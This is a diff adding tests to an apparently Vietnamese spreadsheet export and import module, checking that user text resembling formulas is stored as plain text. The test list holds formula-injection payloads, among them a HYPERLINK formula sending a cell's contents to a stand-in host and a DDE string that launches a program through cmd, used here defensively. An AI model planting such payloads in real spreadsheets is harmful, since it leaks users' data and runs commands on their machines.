@@ -301,3 +301,65 @@ def test_lookup_ignores_punctuation_but_prefers_an_exact_match() -> None:
     assert index.get("PHÒNG KẾ HOẠCH - TÀI CHÍNH").pk == 1
     assert index.get("a-b").pk == 2 and index.get("ab").pk == 3
     assert index.find("a b") == (None, True)  # loosely both: ask for the code
+
+
+# Formula injection ---------------------------------------------------------------------------
+
+# Text a user may type that a spreadsheet would take for a formula (or a DDE call).
+FORMULA_LIKE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
+    "+84 912 345 678",
+    "-5 giờ",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def _formula_parts(data: bytes) -> list[str]:
+    import zipfile
+
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        return [
+            name
+            for name in archive.namelist()
+            if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)
+        ]
+
+
+@pytest.mark.parametrize("write_only", [True, False])
+def test_user_text_is_written_as_text_never_as_a_formula(write_only: bool) -> None:
+    writer = SheetWriter(write_only=write_only)
+    writer.sheet("Đơn vị", ["Mã", "Tên đơn vị"], [[f"K{i}", t] for i, t in enumerate(FORMULA_LIKE)])
+    data = writer.to_bytes()
+    assert _formula_parts(data) == []
+    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
+    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
+    assert [c.value for c in cells] == FORMULA_LIKE
+    assert {c.data_type for c in cells} == {"s"}
+    # The importers read such a cell back as the text it is.
+    rows = list(open_sheet(data, COLUMNS, sheet="Đơn vị").rows())
+    assert [row.raw["name"] for row in rows] == FORMULA_LIKE
+    assert all(not row.result.errors for row in rows)
+
+
+def test_writer_append_keeps_text_as_text() -> None:
+    writer = SheetWriter(write_only=False)
+    sheet = writer.workbook.create_sheet("Hướng dẫn")
+    writer.append(sheet, ["Đơn vị", "=1+1"])
+    data = writer.to_bytes()
+    assert _formula_parts(data) == []
+    cell = load_workbook(io.BytesIO(data))["Hướng dẫn"]["B1"]
+    assert (cell.value, cell.data_type) == ("=1+1", "s")
+
+
+def test_control_characters_pasted_into_a_title_do_not_break_the_export() -> None:
+    writer = SheetWriter()
+    writer.sheet("Nhiệm vụ", ["Tên"], [["Tổng\x0bkết\x01 năm học"]])
+    sheet = load_workbook(io.BytesIO(writer.to_bytes())).worksheets[0]
+    assert sheet["A2"].value == "Tổngkết năm học"
+
+
+def test_a_real_formula_cell_is_still_refused() -> None:
+    rows = read(data_of(book([["K1", '=HYPERLINK("x")', None, None, None]])))
+    assert rows[0][2] and "công thức" in rows[0][2][0][1]
